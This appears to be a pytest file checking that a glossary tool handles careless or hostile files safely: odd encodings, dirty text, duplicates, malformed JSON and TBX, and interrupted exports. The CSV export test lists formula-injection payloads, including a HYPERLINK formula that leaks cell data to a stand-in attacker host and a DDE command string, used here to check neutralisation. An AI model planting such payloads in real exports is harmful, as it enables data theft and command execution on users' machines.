"""Files as careless users and attackers make them: honest encodings, clean text, no doubled imports,
a sentence instead of a traceback, safe and atomic exports."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from glossary.errors import GlossaryImportError, TermLensError
from glossary.formats import Problem, read, write
from glossary.formats import output
from glossary.formats.clean import concept_problem
from glossary.importer import AlreadyInGlossary, import_file
from glossary.model import Concept, Term, TermType
from glossary.store import GlossaryStore
from tests.glossary.test_formats import sample_concepts


@pytest.fixture
def store(tmp_path: Path):
    s = GlossaryStore(tmp_path / "glossary.db")
    yield s
    s.close()


def _items(path: Path, **kw) -> tuple[list[Concept], list[Problem]]:
    items = list(read(path, **kw))
    return [i for i in items if isinstance(i, Concept)], [i for i in items if isinstance(i, Problem)]


# --- B: encodings ---


@pytest.mark.parametrize("codec", ["cp1252", "latin-1"])
def test_western_windows_csv_reads_right(tmp_path: Path, codec: str) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes('id,preferred_en,definition_en\nd1,Ménière disease,"Vertigo, tinnitus and hearing loss"\n'
                     "d2,café au lait spot,Señal cutánea\n".encode(codec))
    concepts, problems = _items(path)
    assert not problems
    assert [c.label() for c in concepts] == ["Ménière disease", "café au lait spot"]
    assert concepts[1].definitions["en"] == "Señal cutánea"


@pytest.mark.parametrize(("codec", "text"), [
    ("cp1252", "Ménière disease"), ("cp1252", "Überweisung; Größe der Straße"), ("gb18030", "房颤"),
    ("gb18030", "心房颤动;高血压"), ("big5", "心房顫動"), ("cp932", "心房細動です"), ("cp1251", "фибрилляция предсердий"),
    ("cp1250", "Příliš žluťoučký kůň"),
])
def test_detection_reads_short_files_in_their_own_code_page(tmp_path: Path, codec: str, text: str) -> None:
    path = tmp_path / "short.csv"
    path.write_bytes(f"preferred_xx\n{text}\n".encode(codec))
    concepts, problems = _items(path)
    assert not problems and concepts[0].terms[0].text == text.split(";")[0].strip()


def test_chinese_windows_csv_still_reads_right(tmp_path: Path) -> None:
    path = tmp_path / "gb.csv"
    path.write_bytes("preferred_zh,definition_zh\n心房颤动,一种常见的心律失常\n高血压,动脉血压持续升高\n".encode("gb18030"))
    concepts, problems = _items(path)
    assert not problems and [c.label() for c in concepts] == ["心房颤动", "高血压"]


def test_mixed_encodings_are_refused_with_their_lines(tmp_path: Path) -> None:
    path = tmp_path / "mixed.csv"
    path.write_bytes("preferred_en\nMénière disease\n".encode("utf-8") + "房颤\n".encode("gb18030")
                     + "café\n".encode("utf-8"))
    concepts, (problem,) = _items(path)
    assert not concepts
    assert problem.location == "line 3"
    assert "2, 4 are UTF-8" in problem.reason and "line(s) 3 are not" in problem.reason


def test_bytes_invalid_in_the_chosen_encoding_name_the_line(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(b"preferred_en\nfine\nalso fine\n\x81\x81 broken\n")
    _, (problem,) = _items(path, encoding="utf-8")
    assert problem.location == "line 4" and "not valid UTF-8" in problem.reason


def test_person_can_name_the_encoding(tmp_path: Path, store: GlossaryStore) -> None:
    path = tmp_path / "short.csv"
    path.write_bytes("preferred_en\nNaïve\n".encode("cp1252"))
    result = import_file(store, path, encoding="cp1252")
    assert result.added == 1 and next(store.iter_concepts()).label() == "Naïve"


# --- C: clean text ---

DIRTY = {
    "nul in a definition": Concept(terms=[Term("ok")], definitions={"en": "bad\x00byte"}),
    "bom inside a term": Concept(terms=[Term("\ufeffbomterm")]),
    "zero-width only": Concept(terms=[Term("\u200b\u200c\u200d")]),
    "lrm only": Concept(terms=[Term("\u200e")]),
    "braille blank": Concept(terms=[Term("\u2800\u2800")]),
    "rtl override": Concept(terms=[Term("abc\u202edef")]),
    "lone surrogate": Concept(terms=[Term("x\ud800y")]),
    "line break in a term": Concept(terms=[Term("two\nlines")]),
    "bell in a note": Concept(terms=[Term("ok")], note="ring\x07"),
}


@pytest.mark.parametrize("case", sorted(DIRTY))
def test_dirty_text_is_refused_in_every_format(tmp_path: Path, case: str) -> None:
    concept = DIRTY[case]
    assert concept_problem(concept)  # the same check the concept dialog makes
    path = tmp_path / "dirty.jsonl"
    path.write_text(json.dumps({"terms": [{"text": t.text, "lang": "en"} for t in concept.terms],
                                "definitions": concept.definitions, "note": concept.note}) + "\n",
                    encoding="utf-8", errors="surrogatepass")
    concepts, (problem,) = _items(path)
    assert not concepts and problem.location == "line 1"
    str(problem).encode("utf-8")  # printable: no lone surrogate in the sentence itself


def test_visible_text_with_joiners_is_kept() -> None:
    assert concept_problem(Concept(terms=[Term("می\u200cخواهم", "fa"), Term("👩\u200d⚕️ doctor")])) is None
    assert concept_problem(Concept(terms=[Term("ok")], definitions={"en": "two\nlines\tand a tab"})) is None


def test_duplicate_ids_in_one_file_are_an_error(tmp_path: Path) -> None:
    path = tmp_path / "dup.csv"
    path.write_text("id,preferred_en\nd1,first\nd2,second\nd1,again\n", encoding="utf-8")
    concepts, (problem,) = _items(path)
    assert [c.label() for c in concepts] == ["first", "second"]
    assert problem.location == "line 4" and "d1" in problem.reason and "line 2" in problem.reason


def test_language_variants_of_one_definition_are_reported(tmp_path: Path) -> None:
    path = tmp_path / "langs.json"
    path.write_text(json.dumps([{"terms": [{"text": "x", "lang": "en"}], "definitions": {"en-US": "a", "EN": "b"}}]),
                    encoding="utf-8")
    _, (problem,) = _items(path)
    assert "'en-US' and 'EN'" in problem.reason


def test_language_variants_of_one_column_are_reported(tmp_path: Path) -> None:
    path = tmp_path / "langs.csv"
    path.write_text("preferred_en,definition_en-US,definition_EN\nx,a,b\n", encoding="utf-8")
    _, (problem,) = _items(path)
    assert problem.location == "line 1" and "'definition_en-US' and 'definition_EN'" in problem.reason


def test_reimporting_the_same_file_never_doubles(tmp_path: Path, store: GlossaryStore) -> None:
    path = tmp_path / "g.csv"
    write(sample_concepts(), path)
    assert import_file(store, path).added == 3
    with pytest.raises(AlreadyInGlossary) as info:
        import_file(store, path)
    assert info.value.count == 3 and "merge, skip or replace" in str(info.value)
    assert store.count() == 3
    assert import_file(store, path, existing="skip").kept == 3 and store.count() == 3


def test_merge_and_replace(tmp_path: Path, store: GlossaryStore) -> None:
    store.add_concept(Concept(terms=[Term("tort", "en")], definitions={"en": "Mine."}, subject_fields=["law"]))
    path = tmp_path / "more.jsonl"
    path.write_text(json.dumps({"terms": [{"text": "Tort", "lang": "en"}, {"text": "侵权", "lang": "zh"}],
                                "definitions": {"en": "Theirs.", "zh": "侵害。"}, "subject_fields": ["law"]}) + "\n",
                    encoding="utf-8")
    result = import_file(store, path, existing="merge")
    (c,) = store.concepts()
    assert (result.added, result.merged) == (0, 1)
    assert [t.text for t in c.terms] == ["tort", "侵权"] and c.definitions == {"en": "Mine.", "zh": "侵害。"}
    result = import_file(store, path, existing="replace")
    (c,) = store.concepts()
    assert result.replaced == 1 and c.definitions["en"] == "Theirs."
    assert store.undo() and store.concepts()[0].definitions["en"] == "Mine."  # one undo step per import


def test_same_term_in_another_subject_field_is_a_new_concept(tmp_path: Path, store: GlossaryStore) -> None:
    store.add_concept(Concept(terms=[Term("discharge")], subject_fields=["medicine"]))
    path = tmp_path / "law.jsonl"
    path.write_text(json.dumps({"terms": [{"text": "discharge", "lang": "en"}], "subject_fields": ["law"]}) + "\n",
                    encoding="utf-8")
    assert import_file(store, path).added == 1


# --- D: a sentence, never a traceback ---


def test_deeply_nested_tbx_is_one_problem(tmp_path: Path) -> None:
    path = tmp_path / "deep.tbx"
    depth = 100_000
    path.write_text('<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"><text><body>'
                    '<conceptEntry id="c1">' + "<descripGrp>" * depth + "</descripGrp>" * depth
                    + "</conceptEntry></body></text></tbx>", encoding="utf-8")
    _, (problem,) = _items(path)
    assert "nested more than" in problem.reason


@pytest.mark.parametrize("name", ["big.json", "big.jsonl"])
def test_five_thousand_digit_id(tmp_path: Path, name: str) -> None:
    entry = '{"id": ' + "9" * 5000 + ', "terms": [{"text": "x", "lang": "en"}]}'
    good = '{"terms": [{"text": "fine", "lang": "en"}]}'
    path = tmp_path / name
    path.write_text(f"[{entry}, {good}]" if name.endswith(".json") else f"{entry}\n{good}\n", encoding="utf-8")
    concepts, (problem,) = _items(path)
    assert [c.label() for c in concepts] == ["fine"]
    assert "5,000 digits" in problem.reason and "nested" not in problem.reason


@pytest.mark.parametrize("name", ["s.json", "s.jsonl"])
def test_lone_surrogate_escape_in_json(tmp_path: Path, name: str, store: GlossaryStore) -> None:
    entry = '{"id": "a\\ud800", "terms": [{"text": "b\\udfff", "lang": "en"}]}'
    path = tmp_path / name
    path.write_text(f"[{entry}]" if name.endswith(".json") else entry + "\n", encoding="utf-8")
    with pytest.raises(GlossaryImportError) as info:
        import_file(store, path)
    (str(info.value) + "".join(map(str, info.value.report))).encode("utf-8")
    assert "lone surrogate" in str(info.value)


# --- E, F: exports ---


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(A1:A2)", "+1+1",
            "-2+3", "\tTAB"]
    concepts = [Concept(terms=[Term(f"term {i}")], definitions={"en": text}) for i, text in enumerate(evil)]
    path = tmp_path / "out.csv"
    write(concepts, path)
    raw = path.read_text(encoding="utf-8-sig")
    for text in evil:
        assert "'" + text.split('"')[0] in raw
    back, problems = _items(path)
    assert not problems and [c.definitions["en"] for c in back] == [" ".join(t.split()) if t.startswith("\t") else t
                                                                     for t in evil]
    write(concepts, path, neutralise=False)
    assert "\n=cmd" not in path.read_text(encoding="utf-8-sig") and ",=cmd|" in path.read_text(encoding="utf-8-sig")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("name", ["g.csv", "g.json", "g.jsonl", "g.tbx"])
def test_full_disk_leaves_the_earlier_file_and_nothing_else(tmp_path: Path, name: str, monkeypatch) -> None:
    (tmp_path / "out").mkdir()
    path = tmp_path / "out" / name
    write(sample_concepts(), path)
    before = path.read_bytes()
    real = output._open_temp

    def full_disk(folder: Path, base: str):  # the temporary file's writes go to /dev/full: ENOSPC
        fd, tmp = real(folder, base)
        os.close(fd)
        return os.open("/dev/full", os.O_WRONLY), tmp

    monkeypatch.setattr(output, "_open_temp", full_disk)
    with pytest.raises(TermLensError, match="disk is full"):
        write(sample_concepts() * 50, path)
    assert path.read_bytes() == before
    assert sorted(p.name for p in path.parent.iterdir()) == [name]


def test_export_into_a_missing_folder_is_a_sentence(tmp_path: Path) -> None:
    with pytest.raises(TermLensError, match="does not exist"):
        write(sample_concepts(), tmp_path / "nonexistent-dir" / "x.csv")


def test_killed_export_leftovers_are_cleared(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    stale = tmp_path / "out" / ".g.json.abc123.termlens-part"
    stale.write_text("half", encoding="utf-8")
    write(sample_concepts(), tmp_path / "out" / "g.json")
    assert sorted(p.name for p in stale.parent.iterdir()) == ["g.json"]


def test_type_survives_every_format(tmp_path: Path) -> None:
    c = Concept(terms=[Term("ECG", type=TermType.ABBREVIATION, case_sensitive=True), Term("electrocardiogram")])
    for name in ("a.csv", "a.json", "a.jsonl", "a.tbx"):
        write([c], tmp_path / name)
        (back,), _ = _items(tmp_path / name)
        assert sorted((t.text, t.type, t.case_sensitive) for t in back.terms) == sorted(
            (t.text, t.type, t.case_sensitive) for t in c.terms), name


EXPORT_CHILD = r"""
import sys, time
from glossary.formats import write
from glossary.model import Concept, Term

def slow():
    for i in range(10**6):
        if i == 200:
            print("writing", flush=True)
        if i >= 200:
            time.sleep(0.001)
        yield Concept(terms=[Term(f"term {i}")], definitions={"en": "x" * 200})

write(slow(), sys.argv[1])
"""


@pytest.mark.parametrize("name", ["exp.csv", "exp.json", "exp.jsonl", "exp.tbx"])
def test_killed_export_leaves_the_earlier_file_whole(tmp_path: Path, name: str) -> None:
    import signal
    import subprocess
    import sys

    (tmp_path / "out").mkdir()
    path = tmp_path / "out" / name
    write(sample_concepts(), path)
    before = path.read_bytes()
    root = Path(__file__).resolve().parents[2]
    proc = subprocess.Popen([sys.executable, "-c", EXPORT_CHILD, str(path)], cwd=root, stdout=subprocess.PIPE,
                            env={**os.environ, "PYTHONPATH": str(root)}, text=True)
    assert proc.stdout.readline().strip() == "writing"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert path.read_bytes() == before  # the complete earlier export, not a cut one
    write(sample_concepts()[:1], path)  # the next export clears what the killed one left
    assert sorted(p.name for p in path.parent.iterdir()) == [name]
